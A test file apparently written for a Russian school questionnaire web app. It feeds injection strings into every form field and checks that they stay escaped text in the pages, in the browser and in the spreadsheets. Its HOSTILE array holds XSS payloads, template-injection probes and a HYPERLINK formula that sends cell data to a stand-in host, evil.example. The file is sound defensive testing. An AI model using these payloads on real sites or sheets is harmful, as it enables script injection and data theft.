/** Script, formula and template text in every field of every form of the product: it stays text on pages, in sheets and in what commands make of it. */
import { readFileSync } from 'node:fs';
import path from 'node:path';
import type { Browser } from 'playwright-core';
import { settingDeclarations } from '../../src/addon/catalog/settings';
import { launchBrowser } from '../support/browser';
import { builtHost, curatorOf, SETUP } from '../support/product';
import {
  cleanUp,
  pageKnowledge,
  type Reply,
  type RunningHome,
  request,
  START,
  startHome,
  temporaryFolder,
} from './running-home';

const HOSTILE = [
  '"><img src=x onerror="window.hit=1;alert(1)"><script>window.hit=1</script>',
  '=HYPERLINK("http://evil.example/?"&A1;"x")',
  '{{SCHOOL}} #{7*7} <%= 1 %> ⟦У-001|им|Фамилия Имя Отчество⟧ </textarea><svg onload=alert(1)>',
] as const;
/** What the forms object to is given something harmless at last, so that the rest arrives. */
const HARMLESS = ['5', 'У-001', '2026-10-10', '1', 'kot@example.org'] as const;
const MOST_TRIES = 14;

let folder: string;
let home: RunningHome;
let browser: Browser | undefined;

const openData = () =>
  builtHost.createWorkspace({
    store: path.join(folder, 'school.db'),
    email: 'kurator@school.local',
    name: 'Куратор',
    locale: 'ru_RU',
    timeZone: 'Europe/Moscow',
    limits: 'none',
    container: { type: 'spreadsheet' },
  });

/** A school that asks everything, also in free words. */
beforeAll(async () => {
  folder = temporaryFolder();
  const workspace = await openData();
  const curator = curatorOf(workspace);
  await curator.press('apiSetUpWorkbook', { ...SETUP, regime: 'names', acknowledged: true });
  const { SpreadsheetApp } = workspace.globals as unknown as {
    SpreadsheetApp: GoogleAppsScript.Spreadsheet.SpreadsheetApp;
  };
  const settings = SpreadsheetApp.getActive().getSheetByName('Настройки')!;
  const names = settings
    .getDataRange()
    .getValues()
    .map(([name]) => String(name));
  settings.getRange(names.indexOf(settingDeclarations.freeText.name) + 1, 2).setValue('да');
  workspace.flush();
  await curator.press('apiIssueCodes', { base: 'mentees', letter: 'У', count: 1, after: 0 });
  const { questionnaires } = await curator.press<{ questionnaires: { id: string }[] }>('apiReadConsole');
  for (const { id } of questionnaires) await curator.ask('apiCreateQuestionnaire', id);
  await workspace.close();
  home = await startHome(START, folder);
});

afterAll(async () => {
  await browser?.close();
  await cleanUp();
});

const host = (): string => `127.0.0.1:${home.port}`;
const get = (place: string): Promise<Reply> => request(home, place, { headers: { host: host() } });
const unescaped = (text: string): string =>
  text
    .replaceAll('&quot;', '"')
    .replaceAll('&lt;', '<')
    .replaceAll('&gt;', '>')
    .replaceAll('&#39;', "'")
    .replaceAll('&amp;', '&');

/** Fills every field of the page with something hostile; `tries` of a field that was refused decide what comes next. */
function fill(page: string, refused: Map<string, number>, seed: number): URLSearchParams {
  const fields = new URLSearchParams();
  const attribute = (tag: string, name: string): string | undefined => {
    const found = new RegExp(` ${name}="([^"]*)"`).exec(tag)?.[1];
    return found === undefined ? undefined : unescaped(found);
  };
  const text = (name: string): string => {
    const times = refused.get(name) ?? 0;
    return times === 0 ? HOSTILE[(seed + fields.size) % HOSTILE.length]! : HARMLESS[(times - 1) % HARMLESS.length]!;
  };
  for (const [tag] of page.matchAll(/<(?:input|textarea|select|button) [^>]*>/g)) {
    const [name, type, value] = ['name', 'type', 'value'].map((each) => attribute(tag, each));
    if (tag.startsWith('<button')) {
      if (name === '_go' && value === 'next') fields.set('_go', 'next');
    } else if (name === undefined || name === '_shared') continue;
    else if (type === 'hidden') fields.append(name, value ?? '');
    else if (type === 'radio' || type === 'checkbox') fields.set(name, value ?? '');
    else if (type === 'date') fields.set(name, '2026-10-10');
    else if (type === 'time') fields.set(name, '10:00');
    else if (tag.startsWith('<select')) {
      const list = page.slice(page.indexOf(tag)).split('</select>')[0] ?? '';
      const [first = ''] = [...list.matchAll(/<option value="([^"]+)"/g)].map(([, one = '']) => unescaped(one));
      fields.set(name, first);
    } else fields.set(name, text(name));
  }
  return fields;
}

/** Sends a form to its end; brings every page that was seen on the way. */
async function sendAll(
  form: string,
  seed: number,
): Promise<{ readonly pages: readonly string[]; readonly sent: boolean }> {
  const pages: string[] = [];
  const refused = new Map<string, number>();
  let page = (await get(`/form/${form}`)).text;
  for (let tries = 0; tries < MOST_TRIES; tries++) {
    pages.push(page);
    const body = fill(page, refused, seed).toString();
    const headers = { host: host(), origin: home.address, 'content-type': 'application/x-www-form-urlencoded' };
    const reply = await request(home, `/form/${form}`, { method: 'POST', headers, body });
    if (reply.status === 303) return { pages, sent: true };
    page = reply.text;
    for (const [block] of page.matchAll(/class="card question wrong"[\s\S]*?<p class="problem"/g)) {
      for (const [, name = ''] of block.matchAll(/ name="([^"]+)"/g)) refused.set(name, (refused.get(name) ?? 0) + 1);
    }
  }
  return { pages: [...pages, page], sent: false };
}

test('every form takes it as text, and no page of a form ever holds it as anything else', async () => {
  const forms = [...(await get('/')).text.matchAll(/\/form\/([\w-]+)"/g)].map(([, id = '']) => id);
  const shown = await Promise.all(forms.map(async (form) => ({ form, page: (await get(`/form/${form}`)).text })));
  // A questionnaire whose time has not come says so instead.
  const open = shown.filter(({ page }) => page.includes('<form')).map(({ form }) => form);
  expect(open.length).toBeGreaterThan(4);
  const outcomes = await Promise.all(open.flatMap((form) => [0, 1, 2].map((seed) => sendAll(form, seed))));
  const pages = outcomes.flatMap((outcome) => outcome.pages).join('\n');
  expect(pages).toContain('&lt;img src=x');
  expect(pages).not.toMatch(/<img src=x|<script>window|<svg onload|<script/);
  const objections = outcomes
    .filter(({ sent }) => !sent)
    .map((one) => /class="problem"[^<]*/.exec(one.pages.at(-1) ?? '')?.[0]);
  expect(objections).toEqual([]);
});

test('the curator looks at all sheets with them in a browser, and nothing happens', async () => {
  const { book } = await pageKnowledge(home);
  browser = await launchBrowser();
  const page = await (await browser.newContext({ locale: 'ru-RU' })).newPage();
  const events: string[] = [];
  page.on('dialog', (dialog) => {
    events.push(`dialog ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (sent) => /evil\.example/.test(sent.url()) && events.push('request'));
  await page.goto(`${home.address}/book/${book}`);
  await page.getByRole('tab').first().waitFor();
  for (const tab of await page.getByRole('tab').all()) {
    await tab.click();
    await page.locator('[role=tab][aria-selected=true]').waitFor();
  }
  expect(await page.evaluate('window.hit')).toBeUndefined();
  await page.goto(`${home.address}/`);
  expect([await page.evaluate('window.hit'), events]).toEqual([undefined, []]);
});

test('the forms are right on a phone: nothing sticks out, nothing that a screen reader stumbles over, in both themes', async () => {
  const forms = [...(await get('/')).text.matchAll(/\/form\/([\w-]+)"/g)].map(([, id = '']) => id);
  const axe = readFileSync('node_modules/axe-core/axe.min.js', 'utf8');
  for (const colorScheme of ['light', 'dark'] as const) {
    const page = await (await browser!.newContext({ viewport: { width: 360, height: 740 }, colorScheme })).newPage();
    // The second theme changes colours only.
    for (const form of colorScheme === 'light' ? forms : forms.slice(0, 2)) {
      await page.goto(`${home.address}/form/${form}`);
      // The page's own policy lets no script of a stranger in; the debugger's is none of the page's.
      const found = await page.evaluate(
        `${axe}; axe.run().then(({ violations }) => violations.filter(({ impact }) => impact === 'serious' || impact === 'critical').map(({ id, nodes }) => id + ' ' + nodes[0].html))`,
      );
      const wide = await page.evaluate('document.documentElement.scrollWidth - document.documentElement.clientWidth');
      expect([form, found, wide]).toEqual([form, [], 0]);
    }
  }
});

test('in the sheets it is text, before and after the commands', async () => {
  await home.stop();
  const workspace = await openData();
  const curator = curatorOf(workspace);
  for (const command of ['apiCollectAnswers', 'apiCheckWorkbook']) await curator.ask(command);
  const { spreadsheets } = workspace.dump();
  await workspace.close();
  const sheets = spreadsheets.flatMap((book) => book.sheets);
  const formulas = sheets.flatMap((sheet) => Object.values(sheet.formulas));
  expect(formulas.filter((formula) => /evil/.test(formula))).toEqual([]);
  const cells = sheets.flatMap(({ display }) => display.flat());
  for (const [index, part] of ['<img src=x', '=HYPERLINK("http://evil', '{{SCHOOL}}'].entries())
    expect([index, cells.some((cell) => cell.includes(part))]).toEqual([index, true]);
});
